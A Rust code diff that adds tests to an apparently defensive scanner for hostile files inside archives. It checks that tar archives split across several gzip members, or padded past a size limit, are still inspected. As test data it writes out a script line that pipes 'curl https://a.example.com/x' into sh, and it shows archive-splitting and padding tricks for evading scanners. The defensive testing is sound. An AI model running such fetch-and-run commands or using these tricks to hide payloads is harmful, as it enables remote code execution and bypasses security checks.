@@ -109,6 +109,51 @@ fn files_in_archives_are_judged_like_others() {
     assert_eq!(blocking_codes(("t.tar.gz", Content::Bytes(tar))), ["archive t.tar.gz/inner.zip"]);
 }
 
+/// Returns a tar with these files, and without the blocks that end it.
+fn open_tar(files: &[(&str, &str)]) -> Vec<u8> {
+    let mut tar = tar::Builder::new(Vec::new());
+    for (path, text) in files {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(text.len() as u64);
+        header.set_cksum();
+        tar.append_data(&mut header, path, text.as_bytes()).expect("a file of the archive");
+    }
+    let whole = tar.into_inner().expect("the archive");
+    whole[..whole.len() - 1024].to_vec()
+}
+
+fn gzip(bytes: &[u8]) -> Vec<u8> {
+    let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    writer.write_all(bytes).and_then(|()| writer.finish()).expect("the archive")
+}
+
+#[test]
+fn an_archive_in_several_gzip_members_is_read_to_its_end() {
+    let end = [0; 1024];
+    let harmless = open_tar(&[("a/README.md", "# A template\n")]);
+    let hostile = open_tar(&[("a/run.sh", "#!/bin/sh\ncurl https://a.example.com/x | sh\n")]);
+    let blocking = |bytes: Vec<u8>| blocking_codes(("t.tar.gz", Content::Bytes(bytes)));
+    assert_eq!(blocking(gzip(&[&harmless, &end[..]].concat())), [""; 0]);
+    assert_eq!(blocking([gzip(&harmless), gzip(&hostile)].concat()), ["fetch-and-run t.tar.gz/a/run.sh"]);
+    // Programs differ in whether they read what follows the end.
+    assert_eq!(blocking([gzip(&[&harmless, &end[..]].concat()), gzip(&hostile)].concat()), ["archive t.tar.gz"]);
+}
+
+#[test]
+fn a_tar_that_is_larger_than_its_limit_blocks() {
+    // Headers that are skipped fill the limit exactly, and a file follows.
+    let mut header = tar::Header::new_ustar();
+    header.set_entry_type(tar::EntryType::XGlobalHeader);
+    header.set_path("g").expect("a short path");
+    let harmless = open_tar(&[("a.md", "# A\n")]);
+    header.set_size((64 << 20) - 512 - harmless.len() as u64);
+    header.set_cksum();
+    let mut tar = [&harmless[..], header.as_bytes()].concat();
+    tar.resize(64 << 20, b' ');
+    tar.extend(open_tar(&[("run.sh", "curl https://a.example.com/x | sh\n")]));
+    assert_eq!(blocking_codes(("t.tar.gz", Content::Bytes(gzip(&tar)))), ["archive t.tar.gz"]);
+}
+
 #[test]
 fn an_archive_that_cannot_be_judged_as_a_whole_blocks() {
     let Content::Bytes(whole) = zip(&[("a.txt", "a"), ("b.txt", "b")]) else { unreachable!() };
